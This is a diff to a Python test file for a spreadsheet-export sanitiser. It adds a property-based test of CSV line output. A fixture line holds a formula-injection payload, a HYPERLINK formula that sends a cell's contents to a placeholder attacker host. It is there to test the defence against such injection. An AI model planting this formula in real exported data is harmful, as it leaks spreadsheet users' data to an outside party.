@@ -6,8 +6,11 @@ import csv
 import io
 
 import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
 
 from policytrack.ingest.timeline import import_timeline_data
+from policytrack.web import exports
 from policytrack.web.exports import spreadsheet_safe
 
 TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -108,3 +111,20 @@ def test_ordinary_values_come_out_unchanged(evil, client):
 )
 def test_a_cell_is_quoted_only_when_it_would_start_a_formula(value, written):
     assert spreadsheet_safe(value) == written
+
+
+CELL_TEXT = st.text(alphabet=st.sampled_from(list("ab ,\"=+-@\t\r\n;'1")), max_size=4)
+
+
+@settings(max_examples=500)
+@given(st.lists(CELL_TEXT, min_size=1, max_size=4) | st.lists(st.one_of(CELL_TEXT, st.none(), st.integers())))
+@example(["a", "-1"])
+@example(["a", "@b", "c"])
+@example(["=a", "b"])
+@example(["a", "\tb"])
+@example([""])
+def test_a_line_is_what_the_csv_writer_writes_of_the_safe_cells(row):
+    # The exports join plain rows themselves (``_plain_line``): the same bytes, whatever the cells.
+    buffer = io.StringIO()
+    csv.writer(buffer).writerow([spreadsheet_safe(cell) for cell in row])
+    assert "".join(exports._lines([row])) == buffer.getvalue()
